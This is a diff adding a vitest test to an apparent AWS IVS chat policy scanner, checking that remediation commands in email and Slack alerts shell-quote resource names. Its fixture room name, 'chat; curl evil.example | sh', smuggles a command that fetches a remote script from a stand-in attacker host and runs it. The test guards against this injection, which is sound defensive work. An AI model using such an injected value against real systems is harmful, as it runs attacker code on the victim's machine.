@@ -10,9 +10,12 @@ import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import type { Finding } from '../../lambda/core/types.js';
 import { DEFAULT_POLICIES_DIR, loadPolicyDir } from '../../lambda/policy/load-dir.js';
+import { renderEmail } from '../../lambda/render/email.js';
 import { fillRemediation } from '../../lambda/render/remediation.js';
 import { applyCommand } from '../../lambda/render/remediation-plan.js';
 import { shellWord } from '../../lambda/render/shell-word.js';
+import { renderSlack } from '../../lambda/render/slack.js';
+import { makeAlert, makeFinding } from './fixtures.js';
 
 const dir = mkdtempSync(join(tmpdir(), 'shell-word-'));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
@@ -116,6 +119,20 @@ describe("a policy's remediation, filled", () => {
     expect(filled).toBe(
       'Deploy it in account 111111111111, region eu-west-1: aws ivschat get-room --identifier arn:aws:ivschat:eu-west-1:111111111111:room/AbCd1234',
     );
+  });
+});
+
+describe('the alert', () => {
+  it('shows a hostile room name single-quoted in the email and in Slack', () => {
+    const name = `chat; curl evil.example | sh`;
+    const alert = makeAlert({
+      newFindings: [
+        makeFinding({ roomName: name, remediationTemplate: 'aws ivschat list-rooms --name {name}' }),
+      ],
+    });
+    const quoted = `aws ivschat list-rooms --name '${name}'`;
+    expect(JSON.stringify(renderEmail(alert))).toContain(quoted);
+    expect(JSON.stringify(renderSlack(alert))).toContain(quoted);
   });
 });
 
